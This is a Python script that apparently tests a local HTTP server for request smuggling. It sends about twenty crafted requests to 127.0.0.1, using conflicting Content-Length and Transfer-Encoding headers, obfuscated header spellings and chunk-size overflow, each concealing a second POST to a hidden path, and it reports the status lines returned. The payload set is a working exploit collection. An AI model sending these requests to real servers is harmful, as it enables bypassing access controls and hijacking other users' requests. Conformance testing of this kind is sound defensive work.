"""Request smuggling attempts against 127.0.0.1:PORT, one connection each: messages whose
length can be read two ways (Content-Length with Transfer-Encoding, obfuscated or repeated
framing headers, folded or bare-LF header lines), each followed by a hidden request for HIDDEN
that a reader of the other framing would run. Stdlib only; the attempts run at once, every socket with a timeout.
Prints one JSON object: for each attempt, the status lines that came back, in order."""
import json
import re
import socket
import sys
import threading

port, visible, hidden = int(sys.argv[1]), sys.argv[2].encode(), sys.argv[3].encode()
host = b"127.0.0.1:%d" % port
payload = b'{"amount": 5, "currency": "EUR"}'
smuggled = (b"POST " + hidden + b" HTTP/1.1\r\nHost: " + host +
            b"\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(payload)
            + payload)


def head(*fields):
    return (b"POST " + visible + b" HTTP/1.1\r\nHost: " + host +
            b"\r\nContent-Type: application/json\r\n" + b"".join(f + b"\r\n" for f in fields) + b"\r\n")


def chunk(data):
    return b"%x\r\n%s\r\n" % (len(data), data)


# Body as a chunked reader sees it: one chunk, then the end, then the hidden request.
te_end = chunk(payload) + b"0\r\n\r\n"
cl_te = te_end + smuggled
# A body that hides the request inside a chunk: read by Content-Length (the first bytes), the
# hidden request comes next.
inner = smuggled
te_cl_body = b"%x\r\n" % len(inner) + inner + b"\r\n0\r\n\r\n"

attempts = {
    # Controls, read one way by everyone: the hidden request is a second, pipelined request.
    "clean_cl_pipelined": head(b"Content-Length: %d" % len(payload)) + payload + smuggled,
    "clean_chunked_pipelined": head(b"Transfer-Encoding: chunked") + te_end + smuggled,
    # CL.TE: a Content-Length reader takes it all as one body; a chunked reader ends early.
    "cl_te": head(b"Content-Length: %d" % len(cl_te), b"Transfer-Encoding: chunked") + cl_te,
    "te_cl": head(b"Transfer-Encoding: chunked", b"Content-Length: %d" % len(cl_te)) + cl_te,
    # TE.CL: a Content-Length reader stops at the chunk size line; the chunk is a request.
    "te_cl_short": head(b"Transfer-Encoding: chunked", b"Content-Length: 4") + te_cl_body,
    # Spellings of Transfer-Encoding some readers take for chunked and others ignore.
    "te_xchunked": head(b"Content-Length: %d" % len(cl_te), b"Transfer-Encoding: xchunked") + cl_te,
    "te_space_colon": head(b"Content-Length: %d" % len(cl_te), b"Transfer-Encoding : chunked") + cl_te,
    "te_tab": head(b"Content-Length: %d" % len(cl_te), b"Transfer-Encoding:\tchunked") + cl_te,
    "te_chunked_identity": head(b"Transfer-Encoding: chunked, identity") + cl_te,
    "te_identity_chunked_two": head(b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity") + cl_te,
    "te_folded": head(b"Content-Length: %d" % len(cl_te), b"Transfer-Encoding:\r\n chunked") + cl_te,
    "te_vertical_tab": head(b"Content-Length: %d" % len(cl_te), b"Transfer-Encoding:\x0bchunked") + cl_te,
    "te_bare_lf": (b"POST " + visible + b" HTTP/1.1\r\nHost: " + host +
                   b"\r\nContent-Length: %d\nTransfer-Encoding: chunked\r\n\r\n" % len(cl_te)) + cl_te,
    # Two lengths: which one a reader takes decides where the hidden request starts.
    "cl_cl": head(b"Content-Length: %d" % len(te_end), b"Content-Length: %d" % len(cl_te)) + cl_te,
    "cl_list": head(b"Content-Length: %d, %d" % (len(te_end), len(cl_te))) + cl_te,
    "cl_plus": head(b"Content-Length: +%d" % len(te_end)) + cl_te,
    # A chunk size that overflows 64 bits in some readers, and one with an extension.
    "chunk_overflow": head(b"Transfer-Encoding: chunked") + b"10000000000000005\r\nABCDE\r\n0\r\n\r\n" + smuggled,
    # HTTP/1.0 with Transfer-Encoding (not defined for 1.0).
    "te_http10": (b"POST " + visible + b" HTTP/1.0\r\nHost: " + host +
                  b"\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n" % len(cl_te)) + cl_te,
}


def statuses(data):
    return [m.decode() for m in re.findall(rb"HTTP/1\.[01] \d{3}", data)]


def attempt(name, raw, out):
    data = b""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
            s.sendall(raw)
            while True:
                c = s.recv(65536)
                if not c:
                    break
                data += c
    except OSError:
        pass
    out[name] = statuses(data)


out = {}
threads = [threading.Thread(target=attempt, args=(n, r, out)) for n, r in attempts.items()]
for t in threads:
    t.start()
for t in threads:
    t.join(10)
print(json.dumps(dict(sorted(out.items()))))
